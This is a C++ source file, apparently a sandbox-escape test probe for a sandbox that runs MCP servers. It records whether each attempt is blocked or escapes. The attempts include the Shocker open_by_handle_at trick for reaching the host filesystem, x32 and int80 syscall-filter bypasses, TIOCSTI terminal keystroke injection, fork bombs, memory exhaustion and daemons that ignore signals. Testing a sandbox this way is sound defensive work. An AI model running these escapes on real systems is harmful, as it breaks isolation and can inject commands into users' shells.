    // Shocker (2014): with CAP_DAC_READ_SEARCH any inode is reachable by handle; just ask.
    struct {
      unsigned int bytes;
      int type;
      unsigned char f[8];
    } h{8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};  // ext4 root directory, inode 2
    // Asked relative to a granted directory: a bind mount of the host's disk, whose inode 2 is the
    // root of that whole filesystem.
    int mfd = ::open(g_scratch.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mfd < 0) mfd = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    return ::syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY);
  }
  if (name == "x32") return ::syscall(0x40000000 | SYS_getpid);
  if (name == "int80-getpid") {
    long rc = errno_style(int80(20, 0, 0, 0));
    if (rc >= 0 && rc != ::getpid()) {
      errno = EINVAL;
      return -1;
    }
    return rc;
  }
  if (name == "int80-socketcall") {
    return errno_style(int80(102, 1 /* SYS_SOCKET */, reinterpret_cast<long>(g_socketcall_args), 0));
  }
  if (name == "int80-socket") return errno_style(int80(359, AF_ALG, SOCK_SEQPACKET, 0));
  errno = EINVAL;
  return -2;
}

[[noreturn]] void attack_syscall(const std::string& name) {
  CallResult r = in_child([&] { return do_syscall(name); });
  if (!r.signal && r.rc == -2) report(kError, "unknown syscall attack " + name);
  judge_call(name, r);
}

struct Family {
  const char* name;
  int domain, type, protocol;
};

const Family kFamilies[] = {
    {"AF_ALG", AF_ALG, SOCK_SEQPACKET, 0},
    {"AF_PACKET", AF_PACKET, SOCK_RAW, 0x0300 /* htons(ETH_P_ALL) */},
    {"AF_VSOCK", AF_VSOCK, SOCK_STREAM, 0},
    {"AF_KEY", AF_KEY, SOCK_RAW, 2 /* PF_KEY_V2 */},
    {"AF_INET-raw", AF_INET, SOCK_RAW, IPPROTO_ICMP},
    {"NETLINK_AUDIT", AF_NETLINK, SOCK_RAW, NETLINK_AUDIT},
    {"NETLINK_KOBJECT_UEVENT", AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT},
    {"NETLINK_SOCK_DIAG", AF_NETLINK, SOCK_RAW, NETLINK_SOCK_DIAG},
    {"NETLINK_GENERIC", AF_NETLINK, SOCK_RAW, NETLINK_GENERIC},
    {"NETLINK_NETFILTER", AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER},
    // Allowed families: the positive controls.
    {"AF_UNIX", AF_UNIX, SOCK_STREAM, 0},
    {"AF_INET", AF_INET, SOCK_STREAM, 0},
    {"AF_INET6", AF_INET6, SOCK_STREAM, 0},
    {"NETLINK_ROUTE", AF_NETLINK, SOCK_RAW, NETLINK_ROUTE},
};

[[noreturn]] void attack_socket(const std::string& name) {
  for (const Family& f : kFamilies) {
    if (name != f.name) continue;
    CallResult r = in_child([&] { return static_cast<long>(::socket(f.domain, f.type, f.protocol)); });
    judge_call("socket(" + name + ")", r, true);
  }
  report(kError, "unknown family " + name);
}

// Positive controls: calls a runtime needs. "escaped" here means "works", which is the expectation.
[[noreturn]] void attack_allowed(const std::string& name) {
  CallResult r = in_child([&]() -> long {
    if (name == "memfd_create") return ::syscall(SYS_memfd_create, "x", 0);
    if (name == "personality-query") return ::personality(0xffffffff);
    if (name == "clone") {
      pid_t c = ::fork();
      if (c == 0) ::_exit(0);
      if (c > 0) ::waitpid(c, nullptr, 0);
      return c;
    }
    errno = EINVAL;
    return -2;
  });
  if (r.rc >= 0) report(kEscaped, name + " works");
  report(kBlocked, name + " failed: " + (r.signal ? r.note : errname(r.err)));
}

// TIOCSTI pushes bytes into a terminal's input: typed into the user's shell when the server holds
// that terminal. The attack tries every inherited fd and, to show the ioctl itself is filtered
// even where no terminal was handed over, a pty of its own.
[[noreturn]] void attack_tty(const std::string& which) {
  CallResult r = in_child([&]() -> long {
    ::setsid();
    std::vector<int> fds = {0, 1, 2};
    int master = ::posix_openpt(O_RDWR | O_NOCTTY);
    if (master >= 0 && ::grantpt(master) == 0 && ::unlockpt(master) == 0) {
      const char* name = ::ptsname(master);
      int slave = name ? ::open(name, O_RDWR) : -1;  // becomes our controlling tty
      if (slave >= 0) fds.push_back(slave);
    }
    unsigned long req = TIOCSTI;
    if (which == "tiocsti-high") req |= 1UL << 32;  // CVE-2019-10063: filters comparing 64 bits
    if (which == "tioclinux") req = TIOCLINUX;
    long best = -1;
    int best_err = 0;
    for (int fd : fds) {
      char c = which == "tioclinux" ? 2 : '#';  // TIOCLINUX subcode 2: set selection
      errno = 0;
      long rc = ::syscall(SYS_ioctl, fd, req, &c);
      if (rc == 0) return fd;
      // Remember the most telling refusal: anything but EPERM means it reached the tty layer.
      if (best_err == 0 || is_refusal(best_err)) best_err = errno;
    }
    errno = best_err;
    return best;
  });
  judge_call(which + " on fds 0-2 and a fresh pty", r);
}

// ---- limits and lifecycle ------------------------------------------------------------------------

[[noreturn]] void attack_forkbomb(long cap) {
  std::vector<pid_t> kids;
  int err = 0;
  while (static_cast<long>(kids.size()) < cap) {
    pid_t c = ::fork();
    if (c < 0) {
      err = errno;
      break;
    }
    if (c == 0) {
      for (;;) ::pause();
    }
    kids.push_back(c);
  }
  for (pid_t c : kids) ::kill(c, SIGKILL);
  for (pid_t c : kids) ::waitpid(c, nullptr, 0);
  std::string n = std::to_string(kids.size());
  std::string extra = "\"forked\":" + n;
  if (err) report(kBlocked, "fork stopped after " + n + " children: " + errname(err), extra);
  report(kEscaped, "forked " + n + " children (the cap) without hitting a limit", extra);
}

[[noreturn]] void attack_memhog(long cap_mib) {
  const size_t chunk = 64ul << 20;
  long got = 0;
  while (got < cap_mib) {
    void* p = ::mmap(nullptr, chunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) {
      report(kBlocked, "mmap failed after " + std::to_string(got) + " MiB: " + errname(errno),
             "\"mib\":" + std::to_string(got));
    }
    std::memset(p, 0x5a, chunk);  // touch every page: resident, not just reserved
    got += 64;
    if (got % 512 == 0) {
      std::fprintf(stderr, "memhog: %ld MiB\n", got);
    }
  }
  report(kEscaped, "holds " + std::to_string(got) + " MiB (the cap) without being stopped",
         "\"mib\":" + std::to_string(got));
}

// A double-forked daemon in its own session, plus a plain child: both carry the marker in argv so
// the suite can find them from the host after it kills mcpcell.
[[noreturn]] void attack_daemonize(const std::string& self, const std::string& marker) {
  pid_t c = ::fork();
  if (c == 0) {
    ::setsid();
    if (::fork() == 0) {
      for (int fd = 0; fd < 3; ++fd) ::close(fd);
      ::execl(self.c_str(), self.c_str(), "sleeper", marker.c_str(), static_cast<char*>(nullptr));
      ::_exit(127);
    }
    ::_exit(0);
  }
  ::waitpid(c, nullptr, 0);
  if (::fork() == 0) {
    ::execl(self.c_str(), self.c_str(), "sleeper", marker.c_str(), static_cast<char*>(nullptr));
    ::_exit(127);
  }
  ::signal(SIGTERM, SIG_IGN);  // make the server itself stubborn too
  notify("probe/ready");
  for (;;) ::pause();
}

[[noreturn]] void sleeper() {
  ::signal(SIGTERM, SIG_IGN);
  ::signal(SIGHUP, SIG_IGN);
  for (;;) ::pause();
}

// An orphan that exits must be reaped by whoever inherits it (the sandbox init, or mcpcell).
[[noreturn]] void attack_zombies() {
  pid_t c = ::fork();
  if (c == 0) {
    if (::fork() == 0) {
      ::usleep(200 * 1000);
      ::_exit(0);
    }
    ::_exit(0);
  }
  ::waitpid(c, nullptr, 0);
  ::usleep(1200 * 1000);
  DIR* d = ::opendir("/proc");
  if (!d) report(kError, "no /proc");
  std::string zombies;
  pid_t parent = ::getppid();
  while (dirent* e = ::readdir(d)) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    std::string st;
    int err = 0;
    if (!read_file(std::string("/proc/") + e->d_name + "/stat", &st, &err)) continue;
    size_t rp = st.rfind(')');
    if (rp == std::string::npos || st.find("(escape_probe)") == std::string::npos) continue;
    char state = 0;
    int ppid = 0;
    if (std::sscanf(st.c_str() + rp + 1, " %c %d", &state, &ppid) != 2) continue;
    if (state == 'Z' && ppid == parent) zombies += std::string(e->d_name) + " ";
  }
  ::closedir(d);
  if (!zombies.empty()) report(kEscaped, "unreaped orphans: " + zombies);
  report(kBlocked, "the orphan was reaped");
}

[[noreturn]] void usage() {
  std::fprintf(stderr, "usage: escape_probe ATTACK [ARGS...] (see docs/escape-suite.md)\n");
  ::_exit(2);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) usage();
  std::vector<std::string> a(argv + 1, argv + argc);
  // "~/x" means the server's own home, wherever the sandbox put it (used to find a private home).
  const char* home = ::getenv("HOME");
  for (auto& s : a) {
    if (s.rfind("~/", 0) == 0 && home) s = home + s.substr(1);
  }
  g_attack = a[0];
  auto arg = [&](size_t i) -> std::string {
    if (i >= a.size()) report(kError, "missing argument " + std::to_string(i));
    return a[i];
  };
  const std::string& cmd = a[0];
  if (cmd == "read") attack_read(arg(1), a.size() > 2 ? a[2] : "");
  if (cmd == "list") attack_list(arg(1), arg(2));
  if (cmd == "symlink-read") attack_symlink_read(arg(1), arg(2), arg(3));
  if (cmd == "read-later") {
    std::vector<std::string> paths(a.begin() + 2, a.end());
    attack_read_later(paths, arg(1));
  }
  if (cmd == "fds") attack_fds(arg(1), std::vector<std::string>(a.begin() + 2, a.end()));
  if (cmd == "env") attack_env(std::vector<std::string>(a.begin() + 2, a.end()), arg(1));
  if (cmd == "write") attack_write(arg(1), arg(2));
  if (cmd == "mknod") attack_mknod(arg(1));
  if (cmd == "swap-dir") attack_swap_dir(arg(1), arg(2), arg(3));
  if (cmd == "connect-tcp") attack_connect_tcp(arg(1), std::atoi(arg(2).c_str()), arg(3));
  if (cmd == "connect-unix") attack_connect_unix(arg(1), false, arg(2));
  if (cmd == "connect-abstract") attack_connect_unix(arg(1), true, arg(2));
  if (cmd == "udp") attack_udp(arg(1), std::atoi(arg(2).c_str()), arg(3), false);
  if (cmd == "dns") attack_udp(arg(1), 53, arg(2), true);
  if (cmd == "ifaces") attack_ifaces();
  if (cmd == "kill") attack_kill(std::atoi(arg(1).c_str()), std::atoi(arg(2).c_str()));
  if (cmd == "ptrace") attack_ptrace(arg(1));
  if (cmd == "ptrace-peek") attack_ptrace_peek(std::atoi(arg(1).c_str()));
  if (cmd == "procmem") attack_procmem(arg(1));
  // The marker comes reversed so that the probe's own command line does not match it.
  if (cmd == "pids") {
    std::string reversed = arg(1);
    attack_pids(std::string(reversed.rbegin(), reversed.rend()));
  }
  if (cmd == "userns") attack_userns(arg(1));
  if (cmd == "caps") attack_caps();
  if (cmd == "nnp") attack_nnp();
  if (cmd == "setuid-exec") attack_setuid_exec(arg(1));
  if (cmd == "whoami") whoami();
  if (cmd == "syscall") {
    if (a.size() > 2) g_scratch = a[2];  // a granted, writable directory
    attack_syscall(arg(1));
  }
  if (cmd == "socket") attack_socket(arg(1));
  if (cmd == "allowed") attack_allowed(arg(1));
  if (cmd == "tty") attack_tty(arg(1));
  if (cmd == "forkbomb") attack_forkbomb(std::atol(arg(1).c_str()));
  if (cmd == "memhog") attack_memhog(std::atol(arg(1).c_str()));
  if (cmd == "daemonize") attack_daemonize(argv[0], arg(1));
  if (cmd == "sleeper") sleeper();
  if (cmd == "zombies") attack_zombies();
  if (cmd == "exit") ::_exit(std::atoi(arg(1).c_str()));
  if (cmd == "segv") {
    ::signal(SIGSEGV, SIG_DFL);
    ::raise(SIGSEGV);
  }
  if (cmd == "raise") {
    int sig = std::atoi(arg(1).c_str());
    ::signal(sig, SIG_DFL);
    ::raise(sig);
    ::pause();
  }
  usage();
}
